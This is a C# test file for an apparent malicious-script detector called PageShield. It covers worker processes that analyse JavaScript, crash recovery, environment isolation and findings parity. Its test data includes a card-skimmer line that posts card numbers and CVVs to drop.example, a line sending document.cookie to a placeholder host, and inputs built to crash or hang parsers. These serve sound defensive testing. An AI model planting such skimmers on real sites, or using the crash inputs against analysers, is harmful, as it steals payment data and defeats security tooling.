using System.Diagnostics;
using PageShield.Changes;
using PageShield.Detection;
using PageShield.Detection.Examination;
using PageShield.Inventory;
using PageShield.Inventory.Scripts;
using PageShield.JavaScript;
using PageShield.JavaScript.Printing;
using PageShield.Workers;

namespace PageShield.Tests.Workers;

/// <summary>Real worker processes, and texts that end them.</summary>
public sealed class WorkerPoolTests : IAsyncDisposable
{
    private const string Skimmer = "document.forms[0].onsubmit = function () { fetch('https://drop.example/x.gif', { method: 'POST', body: document.querySelector('#card_number').value + document.querySelector('[name=cvv]').value }); };\n";
    private const string Packed = "eval(function(p,a,c,k,e,d){BODY}('0 1 2',62,3,'a|b|c'.split('|'),0,{}))";
    private readonly WorkerPool _pool = new(new WorkerOptions { Count = 1 });

    public static TheoryData<string, string> Deadly => new()
    {
        { "comments that open", string.Concat(Enumerable.Repeat("<!--\n", 400_000)) + "a=1" },
        { "few comments, which a warm parser stands", string.Concat(Enumerable.Repeat("<!--\n \n", 2_001)) + "a=1" },
        { "comments that close", string.Concat(Enumerable.Repeat("\n-->", 400_000)) + "\na=1" },
        { "a text of itself", Packed.Replace("BODY", "var o={toString:function(){return o+''}};return o+''", StringComparison.Ordinal) },
        { "nested lists", Packed.Replace("BODY", "var a=[];for(var i=0;i<60000;i++)a=[a];return a.toString()", StringComparison.Ordinal) },
        { "code made while running", Packed.Replace("BODY", "return eval('<!--\\n'.repeat(20000)+'1')", StringComparison.Ordinal) },
    };

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(Deadly))]
    public async Task A_script_that_ends_the_analyser_is_suspicious_and_ends_nothing_else(string kind, string source)
    {
        var examiner = new ScriptExaminer(workers: _pool);
        var script = new ScriptInput { Source = source };

        var judgement = ScriptJudge.With(await examiner.ExamineAsync(script, Cancel), script);

        Assert.True(judgement.Verdict == VerdictKind.Suspicious, $"{kind}: {judgement.Verdict}");
        Assert.Contains(judgement.Findings, finding => finding is { Rule: AnalyzerCrash.Rule, Severity: Severity.High });
        Assert.Equal(ScriptExaminer.AnalyzerVersion, judgement.AnalyzerVersion);
        var honest = new ScriptInput { Source = "var a = 1;" };
        Assert.Equal(99, ScriptJudge.With(await examiner.ExamineAsync(honest, Cancel), honest).Score);
    }

    [Theory]
    [MemberData(nameof(Deadly))]
    public async Task A_skimmer_that_ends_the_analyser_is_judged_by_what_is_left(string kind, string source)
    {
        var script = new ScriptInput { Source = Skimmer + source };

        var judgement = ScriptJudge.With(await new ScriptExaminer(workers: _pool).ExamineAsync(script, Cancel), script);

        Assert.True(judgement.Verdict == VerdictKind.Malicious, $"{kind}: {judgement.Verdict}");
    }

    [Theory]
    [MemberData(nameof(Deadly))]
    public async Task Comparing_laying_out_and_recognising_survive_it_too(string kind, string source)
    {
        var comparison = await ScriptComparer.CompareAsync("var a = 1;", source, urgent: true, Cancel);
        var printed = await ScriptLayout.PrintAsync(source, Cancel);
        var traits = await ScriptTraits.OfAsync(source, Cancel);

        Assert.True(comparison.Class >= ChangeClass.Code, $"{kind}: {comparison.Class}");
        Assert.True(printed is null || printed.Length > 0);
        Assert.True(traits.Fingerprint is null || traits.Fingerprint.Length > 0);
    }

    [Fact]
    public async Task A_text_with_lone_surrogates_arrives_unit_by_unit()
    {
        const string Source = "var a = '\uD800x\uDC00';\nfetch('https://\uDFFF.example/' + document.cookie);";
        var script = new ScriptInput { Source = Source };

        var ours = new ScriptJudge().Examine(script);
        var theirs = await new ScriptExaminer(workers: _pool).ExamineAsync(script, Cancel);

        Assert.Equal(ours.SelectMany(opinion => opinion.Findings).Select(finding => (finding.Rule, finding.Line, finding.Column)),
            theirs.SelectMany(opinion => opinion.Findings).Select(finding => (finding.Rule, finding.Line, finding.Column)));
    }

    [Fact]
    public async Task A_worker_that_somebody_else_ends_is_replaced_and_says_nothing_about_a_script()
    {
        var examiner = new ScriptExaminer(workers: _pool);
        var script = new ScriptInput { Source = "var a = 1;" };
        await examiner.ExamineAsync(script, Cancel);
        var first = Assert.Single(_pool.ProcessIds);
        using (var process = Process.GetProcessById(first))
        {
            process.Kill();
            await process.WaitForExitAsync(Cancel);
        }

        var judgement = ScriptJudge.With(await examiner.ExamineAsync(script, Cancel), script);

        Assert.Equal(99, judgement.Score);
        Assert.NotEqual(first, Assert.Single(_pool.ProcessIds));
    }

    [Fact]
    public async Task A_worker_that_serves_many_scripts_stays_one_process()
    {
        var examiner = new ScriptExaminer(workers: _pool);

        for (var number = 0; number < 50; number++) await examiner.ExamineAsync(new ScriptInput { Source = $"var a = {number};" }, Cancel);

        Assert.Single(_pool.ProcessIds);
        Assert.Equal(0, _pool.Deaths);
    }

    [Fact]
    public async Task A_worker_inherits_nothing_of_the_environment()
    {
        Assert.SkipUnless(OperatingSystem.IsLinux(), "Environments are read from /proc.");
        Environment.SetEnvironmentVariable("PageShield__Hub_Test", "a-secret");
        await new ScriptExaminer(workers: _pool).ExamineAsync(new ScriptInput { Source = "var a = 1;" }, Cancel);

        var environment = await File.ReadAllTextAsync($"/proc/{Assert.Single(_pool.ProcessIds)}/environ", Cancel);

        Assert.Contains("DOTNET_EnableDiagnostics=0", environment, StringComparison.Ordinal);
        Assert.DoesNotContain("a-secret", environment, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_missing_worker_program_is_the_systems_fault_and_names_itself()
    {
        await using var pool = new WorkerPool(new WorkerOptions { Program = new WorkerProgram("/nowhere/page-shield", [WorkerProgram.Verb]) });

        var error = await Assert.ThrowsAsync<WorkerUnavailableException>(
            () => new ScriptExaminer(workers: pool).ExamineAsync(new ScriptInput { Source = "var a = 1;" }, Cancel));

        Assert.Contains("/nowhere/page-shield", error.Message, StringComparison.Ordinal);
        Assert.Equal(error.Message, pool.Problem);
    }

    public ValueTask DisposeAsync() => _pool.DisposeAsync();
}
